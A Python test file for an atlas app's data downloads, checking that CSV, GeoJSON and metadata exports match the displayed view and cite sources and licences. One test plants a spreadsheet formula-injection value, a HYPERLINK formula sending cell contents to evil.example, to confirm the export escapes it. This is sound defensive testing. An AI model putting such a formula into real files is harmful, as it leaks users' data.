"""Data downloads hold exactly what the view shows, and say where it comes from."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from export.data import metadata_json, towns_csv, units_csv, view_geojson
from geo import io as geo_io
from geo.atlas import compute_view
from geo.describe import class_label
from geo.indicators import get_indicator
from geo.view import View

VIEWS = {
    "country": View(lang="en"),
    "karaganda_filtered": View(lang="kk", unit="KZ-35").with_filter(
        "status", {"listed", "unknown"}
    ),
    "rates_2022": View(lang="ru", vintage="2022", indicator="towns_per_million"),
    # Both towns that left the list are not district centres: no town matches.
    "nothing": View(lang="en")
    .with_filter("status", {"left"})
    .with_filter("district_centre", {"yes"}),
}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def strict_json(text: str):
    """JSON that refuses NaN and Infinity (which some writers emit and readers reject)."""

    def refuse(name):
        raise ValueError(f"{name} in JSON")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture(params=list(VIEWS), scope="module")
def data(request, atlas):
    return compute_view(atlas, VIEWS[request.param])


def test_towns_csv_is_the_towns_shown_with_their_unit(data):
    table = rows(towns_csv(data))
    assert [r["town_id"] for r in table] == sorted(data.towns["town_id"])
    expected_unit = dict(zip(data.towns["town_id"], data.towns["unit_id"], strict=True))
    assert {r["town_id"]: r["unit_id"] for r in table} == expected_unit
    names = dict(zip(data.units["unit_id"], data.units[f"name_{data.view.lang}"], strict=True))
    assert all(r["unit_name"] == names[r["unit_id"]] for r in table)


def test_units_csv_has_every_unit_with_value_and_class(data):
    table = rows(units_csv(data))
    indicator = get_indicator(data.view.indicator)
    by_id = data.units.set_index("unit_id")
    assert [r["unit_id"] for r in table] == sorted(by_id.index)
    for r in table:
        unit = by_id.loc[r["unit_id"]]
        assert int(r["n_towns"]) == unit["n_towns"]
        cls = data.classification.classes[unit["class_index"]]
        assert r["class_label"] == class_label(cls, indicator, data.view.lang)
        assert r["fill"] == unit["fill"]
        # Rounded to the precision the indicator's sources support.
        value = round(float(unit[indicator.column]), indicator.precision)
        assert float(r["value"]) == pytest.approx(value)


def test_geojson_counts_and_ids_match_the_view(data):
    collection = strict_json(view_geojson(data))
    units = [f for f in collection["features"] if f["properties"]["layer"] == "unit"]
    towns = [f for f in collection["features"] if f["properties"]["layer"] == "town"]
    assert len(units) + len(towns) == len(collection["features"])
    assert [f["properties"]["unit_id"] for f in units] == sorted(data.units["unit_id"])
    assert [f["properties"]["town_id"] for f in towns] == sorted(data.towns["town_id"])
    assert {f["geometry"]["type"] for f in units} <= {"Polygon", "MultiPolygon"}
    for f in towns:
        lon, lat = f["geometry"]["coordinates"]
        assert 46 < lon < 88 and 40 < lat < 56
        assert f["properties"]["unit_id"] in set(data.units["unit_id"])


def test_downloads_are_the_same_for_the_same_view(atlas):
    view = VIEWS["karaganda_filtered"]
    one, two = compute_view(atlas, view), compute_view(atlas, view)
    assert towns_csv(one) == towns_csv(two)
    assert view_geojson(one) == view_geojson(two)
    assert metadata_json(one, atlas, date(2025, 1, 2)) == metadata_json(two, atlas, "2025-01-02")


def test_metadata_reflects_the_view_and_its_sources(atlas):
    view = View(lang="kk", vintage="2022", unit="KZ-62", indicator="pop_share_2023")
    view = view.with_filter("status", {"listed", "unknown"}).with_filter("sector", {"copper"})
    data = compute_view(atlas, view)
    meta = strict_json(
        metadata_json(data, atlas, generated=date(2025, 3, 1), app_url="https://atlas.example.kz/")
    )
    assert meta["generated"] == "2025-03-01"
    assert meta["view"]["vintage"] == "2022" and meta["view"]["language"] == "kk"
    assert meta["view"]["indicator"] == "pop_share_2023"
    assert meta["view"]["filters"] == {"sector": ["copper"], "status": ["listed", "unknown"]}
    assert meta["focus_unit"]["unit_id"] == "KZ-62"
    assert meta["counts"]["towns_shown"] == len(data.towns)
    assert meta["counts"]["units"] == len(data.units) == 20
    assert "sector=copper" in meta["link"] and "status=listed,unknown" in meta["link"]
    manifest = {f["vintage"]: f for f in geo_io.read_manifest()["files"]}
    assert meta["boundaries"]["sha256"] == manifest["2022"]["sha256"]
    licences = {entry["data"]: entry for entry in meta["licences"]}
    # The boundaries' licence is what their manifest establishes, not a guessed ODbL.
    assert licences["boundaries"]["licence"] == atlas.manifest["licence"]
    assert licences["boundaries"]["attribution"] == atlas.manifest["attribution"]["kk"]
    assert licences["town coordinates"]["licence"] == "CC BY 4.0"
    assert "© OpenStreetMap" not in json.dumps(meta, ensure_ascii=False)
    keys = {s["key"] for s in meta["sources"]}
    assert {"BNS23", "GN"} <= keys  # population and coordinates of the towns shown
    titles = atlas.sources.set_index("key")["title"]
    assert all(s["title"] == titles[s["key"]] for s in meta["sources"])
    assert meta["data_dates"]["population"] == "2023-01-01"


def test_csv_download_opens_as_utf8_and_runs_no_formula(atlas):
    import dataclasses

    from export.formats import Options, get_format

    towns = atlas.towns.copy()
    first = towns.index[0]
    towns.loc[first, "name_ru"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    towns.loc[first, "enterprise"] = "@SUM(1+1)"
    joined = {v: j.copy() for v, j in atlas.joined.items()}
    for j in joined.values():
        j.loc[j["town_id"] == towns.loc[first, "town_id"], "name_ru"] = towns.loc[first, "name_ru"]
        j.loc[j["town_id"] == towns.loc[first, "town_id"], "enterprise"] = "@SUM(1+1)"
    hostile = dataclasses.replace(atlas, towns=towns, joined=joined)
    raw = get_format("csv").render(hostile, View(lang="ru"), Options())
    assert raw.startswith(b"\xef\xbb\xbf")  # byte-order mark: spreadsheets read UTF-8
    table = rows(raw.decode("utf-8-sig"))
    assert len(table) == 27
    cells = [c for r in table for c in r.values()]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "'@SUM(1+1)" in cells
    assert any(r["name_ru"] == "Темиртау" for r in table)  # other names untouched
